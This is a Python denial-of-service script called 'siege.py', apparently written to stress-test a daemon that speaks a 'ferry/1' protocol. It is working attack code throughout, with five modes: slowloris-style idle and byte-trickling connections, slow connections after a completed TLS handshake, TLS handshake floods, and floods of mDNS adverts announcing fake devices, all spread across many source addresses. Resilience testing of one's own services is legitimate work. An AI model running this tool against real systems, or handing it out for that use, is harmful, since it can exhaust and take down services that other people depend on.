"""Attacks a daemon at its door, from many addresses of one host, until it is killed.

Usage: siege.py KIND TARGET PORT FIRST-ADDRESS COUNT AMOUNT
  idle       keeps AMOUNT connections open that say nothing
  trickle    keeps AMOUNT connections open that say a byte of a greeting each second
  silent     keeps AMOUNT connections open that end their TLS handshake and then say a byte each second
  handshakes makes AMOUNT TLS handshakes a second
  adverts    announces AMOUNT devices a second
Prints "begun" when the first blow has landed, and what was done each second.
"""
import asyncio, itertools, os, random, socket, ssl, struct, sys, time

kind, target, port, first, count, amount = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
start = struct.unpack(">I", socket.inet_aton(first))[0]
addresses = itertools.cycle(socket.inet_ntoa(struct.pack(">I", start + i)) for i in range(count))
done = 0
GREETING = bytes.fromhex("1603010200010001fc0303") + bytes(range(256)) + bytes(252)


def tick():
    global done
    done += 1
    if done == 1:
        print("begun", flush=True)


async def held(talk, tls=None):
    """One connection after the other; what the other side ends begins again."""
    while True:
        writer = None
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(target, port, local_addr=(next(addresses), 0), ssl=tls), 15)
            tick()
            await talk(reader, writer)
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            await asyncio.sleep(0.5 + random.random())
        finally:
            if writer is not None:
                writer.transport.abort()


async def nothing(reader, writer):
    await reader.read()


async def slowly(reader, writer):
    for byte in GREETING:
        writer.write(bytes([byte]))
        await writer.drain()
        if reader.at_eof():
            return
        await asyncio.sleep(1)


def client():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.set_alpn_protocols(["ferry/1"])
    if len(sys.argv) > 7:
        context.load_cert_chain(sys.argv[7])
    return context


async def handshakes():
    context = client()

    async def one():
        try:
            _, writer = await asyncio.wait_for(asyncio.open_connection(target, port, local_addr=(next(addresses), 0), ssl=context), 15)
            writer.transport.abort()
        except (OSError, asyncio.TimeoutError):
            pass
        tick()

    running = set()
    while True:
        for _ in range(amount // 20):
            if len(running) < amount:
                task = asyncio.create_task(one())
                running.add(task)
                task.add_done_callback(running.discard)
        await asyncio.sleep(0.05)


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


async def adverts():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    out.bind((first, 5353))
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(first))
    service = name(b"_ferry", b"_tcp", b"local")
    while True:
        began = time.monotonic()
        for _ in range(amount // 20):
            label = os.urandom(8).hex().encode()
            whole, host = name(label, b"_ferry", b"_tcp", b"local"), name(label, b"local")
            text = b"".join(bytes([len(t)]) + t for t in (b"v=1", b"s=" + os.urandom(8).hex().encode(), b"t=" + os.urandom(96).hex().encode()))
            records = service + struct.pack(">HHIH", 12, 1, 120, len(whole)) + whole \
                + whole + struct.pack(">HHIH", 33, 0x8001, 120, 6 + len(host)) + struct.pack(">HHH", 0, 0, 47900) + host \
                + whole + struct.pack(">HHIH", 16, 0x8001, 120, len(text)) + text \
                + host + struct.pack(">HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(next(addresses))
            out.sendto(struct.pack(">HHHHHH", 0, 0x8400, 0, 4, 0, 0) + records, ("224.0.0.251", 5353))
            tick()
        await asyncio.sleep(max(0, 0.05 - (time.monotonic() - began)))


async def report():
    before = 0
    while True:
        await asyncio.sleep(1)
        if done:
            print(done - before, flush=True)
        before = done


async def main():
    asyncio.create_task(report())
    if kind == "handshakes":
        await handshakes()
    elif kind == "adverts":
        await adverts()
    else:
        talk = nothing if kind == "idle" else slowly
        await asyncio.gather(*(held(talk, client() if kind == "silent" else None) for _ in range(amount)))

asyncio.run(main())
